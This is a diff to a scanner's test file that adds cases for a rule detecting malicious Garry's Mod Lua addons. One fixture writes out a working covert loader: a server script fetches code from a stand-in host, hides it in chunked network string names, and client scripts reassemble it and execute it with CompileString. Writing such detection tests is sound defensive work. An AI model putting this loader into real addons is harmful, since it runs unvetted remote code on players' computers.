@@ -1229,4 +1229,46 @@ describe('runstring', () => {
   it('the same sheet with prices only (no finding)', () => {
     expect(check(rule, priceRows('=7*RATE'))).toEqual([]);
   });
+  it('a web reply spread over network string names, read back by number and compiled on clients', () => {
+    const findings = check(rule, {
+      'lua/autorun/server/sv_x.lua': [
+        'hook.Add("Initialize", "pub", function()',
+        '  http.Fetch("https://x.invalid/p", function(body)',
+        '    for i = 1, math.ceil(#body / 100) do',
+        '      util.AddNetworkString("pk" .. i .. ":" .. body:sub((i - 1) * 100 + 1, i * 100))',
+        '    end',
+        '  end)',
+        'end)',
+      ].join('\n'),
+      'lua/autorun/client/cl_x.lua': [
+        'timer.Create("pk", 5, 0, function()',
+        '  local bits = {}',
+        '  for id = 1, 4095 do',
+        '    local n = util.NetworkIDToString(id)',
+        '    if not n then break end',
+        '    local i, piece = n:match("^pk(%d+):(.+)$")',
+        '    if i then bits[tonumber(i)] = piece end',
+        '  end',
+        '  local f = CompileString(table.concat(bits), "pk", false)',
+        '  if f then f() end',
+        'end)',
+      ].join('\n'),
+    });
+    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.high);
+  });
+  it("network strings named from the addon's own list, read back by number (no finding)", () => {
+    const findings = check(rule, {
+      'lua/autorun/server/sv_x.lua': [
+        'local kinds = { "open", "close", "buy" }',
+        'for _, k in ipairs(kinds) do util.AddNetworkString("shop_" .. k) end',
+        'http.Fetch("https://x.invalid/motd", function(body) SetGlobalString("motd_len", tostring(#body)) end)',
+      ].join('\n'),
+      'lua/autorun/client/cl_x.lua': [
+        'concommand.Add("shop_nets", function()',
+        '  for id = 1, 4095 do local n = util.NetworkIDToString(id) if not n then break end print(n) end',
+        'end)',
+      ].join('\n'),
+    });
+    expect(findings).toEqual([]);
+  });
 });
